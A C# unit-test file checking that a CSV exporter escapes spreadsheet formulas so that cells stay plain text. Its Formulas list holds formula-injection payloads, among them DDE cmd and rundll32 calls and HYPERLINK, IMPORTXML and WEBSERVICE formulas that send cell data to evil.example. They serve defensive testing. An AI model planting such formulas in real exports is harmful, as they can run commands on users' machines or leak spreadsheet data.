using Upshot.Output;
using Upshot.Tests.Support;

namespace Upshot.Tests.Output;

public sealed class CsvTextTests
{
    /// <summary>What people have put into cells to make a spreadsheet act.</summary>
    private static readonly string[] Formulas =
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")",
        "=IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
        "=WEBSERVICE(\"https://evil.example/\"&A1)",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "+thespanishinquisition(cmd|'/c calc'!A",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=10+20+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "+1-1",
        "@A1",
        "=IMAGE(\"https://evil.example/a.png\")",
    ];

    private static readonly string[] After = ["", " ", "\n", ";=1", ", \"=1\"", "\"", "\r\n=1+1", "\t=1", "'"];

    private static readonly string[] Before =
    [
        "",
        " ",
        "   ",
        "\u00A0",
        "\uFEFF",
        "\u3000",
        "\u200B",
        "\u2060",
        "\0",
        "\t",
        "\r",
        "\n",
        " \t",
        "note;",
        "note; ",
        "note\t",
        "two\nlines\n",
        "a\r\n",
        "\";",
    ];

    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("", "")]
    [InlineData("a, b", "\"a, b\"")]
    [InlineData("say \"yes\"", "\"say \"\"yes\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("two\n\nlines; more", "\"two\n\nlines; more\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData(" =1+1", "' =1+1")]
    [InlineData("\u00A0@SUM(A1)", "'\u00A0@SUM(A1)")]
    [InlineData("＝1", "'＝1")]
    [InlineData("﹣1", "'﹣1")]
    [InlineData("\t1", "'\t1")]
    [InlineData("-2, and rising", "\"'-2, and rising\"")]
    [InlineData("see;=1+1", "see;'=1+1")]
    [InlineData("two\n=1+1", "\"two\n'=1+1\"")]
    [InlineData("a=b", "a=b")]
    [InlineData("a - b; c+d", "a - b; c+d")]
    [InlineData("ann@harbour.example", "ann@harbour.example")]
    public void A_cell_is_text_and_never_a_formula(string text, string cell) => Assert.Equal(cell, CsvText.Cell(text));

    [Fact]
    public void A_row_has_a_comma_between_its_cells() => Assert.Equal("a,,\"b,c\"", CsvText.Row("a", "", "b,c"));

    [Fact, Trait(Figure.Trait, "T11")]
    public void No_formula_lives_whatever_a_program_takes_for_the_mark_between_two_cells()
    {
        var live = new List<string>();
        var tries = 0;
        foreach (var formula in Formulas.SelectMany(Forms))
        {
            foreach (var text in Before.SelectMany(before => After.Select(after => before + formula + after)))
            {
                var row = $"2025-Q3,88,{CsvText.Cell(text)},percent";
                foreach (var mark in ",;\t")
                    live.AddRange(Cells(row, mark).Where(IsLive).Select(cell => $"{mark}: {row} has {cell}"));
                tries++;
            }
        }

        Figure.None("T11", "live formulas in cells of downloads, each read with three marks", live, tries);
    }

    [Fact, Trait(Figure.Trait, "T11")]
    public void Numbers_of_a_download_are_those_of_the_source()
    {
        string[] numbers = ["0", "-1", "88", "-0.5", "61.25", "1000000", "-99999999.9999", "0.0001", "123456789012345"];
        var wrong = new List<string>();
        foreach (var number in numbers)
        {
            var site = BuiltSite.Small(("value: 88", $"value: {number}"), ("decimals: 0", "decimals: 4"));
            var rows = site.Text(site.Paths.Single(path => path.EndsWith(".csv", StringComparison.Ordinal)))
                .Split('\n');
            if (!rows.Any(row => row.Split(',') is [_, var value, ..] && value == number))
                wrong.Add($"{number}: {string.Join(" | ", rows)}");
        }

        Figure.None("T11", "numbers changed in a download", wrong, numbers.Length);
    }

    [Fact]
    public void Cells_without_a_formula_stay_as_they_are()
    {
        string[] texts = ["Counted at six", "1 - 2", "50 % more", "a;b", "O'Neill", "#1", "x = y", "§ 5", "é", "(1)"];

        Assert.Equal(texts, texts.Select(CsvText.Cell));
    }

    /// <summary>Plain, and in the wide letters that some spreadsheets take for the same.</summary>
    private static IEnumerable<string> Forms(string formula) => [formula, (char)(formula[0] + 0xFEE0) + formula[1..]];

    /// <summary>As a spreadsheet reads it: quotes count only where a cell begins with one.</summary>
    private static List<string> Cells(string row, char mark)
    {
        var cells = new List<string>();
        for (var i = 0; i <= row.Length; )
        {
            var cell = new System.Text.StringBuilder();
            if (i < row.Length && row[i] == '"')
            {
                for (i++; i < row.Length && (row[i] != '"' || (i + 1 < row.Length && row[i + 1] == '"')); i++)
                {
                    cell.Append(row[i]);
                    i += row[i] == '"' ? 1 : 0;
                }

                i++;
            }

            for (; i < row.Length && row[i] != mark && row[i] is not ('\r' or '\n'); i++)
                cell.Append(row[i]);
            cells.Add(cell.ToString());
            i++;
        }

        return cells;
    }

    private static bool IsLive(string cell)
    {
        var seen = cell.TrimStart(' ', '\u00A0', '\uFEFF', '\u3000', '\u200B', '\u2060', '\0', '\t', '\r', '\n');
        return seen.Length > 0 && "=+-@＝＋－＠".Contains(seen[0]);
    }
}
